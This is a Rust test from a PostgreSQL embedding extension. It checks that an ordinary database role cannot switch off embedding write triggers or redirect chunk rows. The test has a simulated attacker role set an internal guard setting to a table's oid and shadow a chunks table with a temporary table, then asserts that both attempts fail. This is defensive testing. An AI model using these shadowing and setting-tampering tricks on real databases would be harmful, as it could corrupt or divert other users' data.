    assert_eq!(listed, RUN_UNDER_CALLERS_PATH.len(), "a listed function no longer exists");
    eprintln!(
        "{} functions: {} pin search_path, {listed} run under the caller's path (listed)",
        rows.len(),
        rows.len() - listed
    );
}

#[test]
fn an_ordinary_role_cannot_switch_off_a_write_path_or_redirect_chunks() {
    let mut admin = connect();
    attacker_role(&mut admin);
    let mut setup = database(&mut admin, "eg_switch_off", None);
    setup
        .batch_execute(&format!(
            "{VICTIM_TABLES}
             INSERT INTO v_stmt (id, body) VALUES (1, 'one');
             INSERT INTO v_row (id, body) VALUES (1, 'one');
             INSERT INTO v_docs (id, body) VALUES (1, 'one document');
             GRANT SELECT, UPDATE (body, v) ON v_stmt, v_row TO {ATTACKER};
             GRANT SELECT, UPDATE (body) ON v_docs TO {ATTACKER};
             GRANT SELECT, INSERT, DELETE ON v_docs_chunks TO {ATTACKER};"
        ))
        .unwrap();
    let notices = Arc::new(Mutex::new(Vec::new()));
    let mut attacker = session(&format!("{} user={ATTACKER}", db_dsn("eg_switch_off")), &notices);
    let oid: u32 = setup.query_one("SELECT 'v_stmt'::regclass::oid", &[]).unwrap().get(0);
    // Every setting an ordinary role may change, at its most hostile value, and the guard the
    // statement trigger used to read from a placeholder setting.
    attacker
        .batch_execute(&format!(
            "SET embeddinggemma_internal.statement_trigger_busy = '{oid}';
             SET embeddinggemma.max_batch_tokens = 64; SET embeddinggemma.threads = 1;
             CREATE TEMP TABLE v_docs_chunks (LIKE public.v_docs_chunks);
             UPDATE v_stmt SET body = 'changed by the attacker';
             UPDATE v_row SET body = 'changed by the attacker';
             UPDATE v_docs SET body = 'a text changed by the attacker';"
        ))
        .unwrap();
    let redirected: i64 = attacker.query_one("SELECT count(*) FROM pg_temp.v_docs_chunks", &[]).unwrap().get(0);
    assert_eq!(redirected, 0, "chunks went to the attacker's temporary table");
    use_tiny_model(&mut setup);
    let stale: i64 = setup
        .query_one(
            "SELECT (SELECT count(*) FROM v_stmt WHERE v IS NULL OR v <=> embed(body::text, 'document', 48) > 1e-6)
                  + (SELECT count(*) FROM v_row WHERE v IS NULL OR v <=> embed(body::text, 'document', 48) > 1e-6)
                  + (SELECT count(*) FROM v_docs d WHERE NOT EXISTS (SELECT FROM v_docs_chunks c WHERE c.doc_id = d.id AND c.body = d.body)
                                                      AND d.id = 1)",
            &[],
        )
        .unwrap()
        .get(0);
    assert_eq!(stale, 0, "a write path was switched off");
    // Nor can it make a backfill write progress for a table it may not update.
    let (code, msg, _) =
        expect_error(&mut attacker, "SELECT embeddinggemma_backfill_begin('v_fill', 'body', 'v', 'document', 48, 10)");
    assert_eq!(code, "42501", "{msg}");
    assert!(planted_reports(&notices).is_empty());
    drop((attacker, setup));
    admin.batch_execute("DROP DATABASE eg_switch_off WITH (FORCE)").unwrap();
}
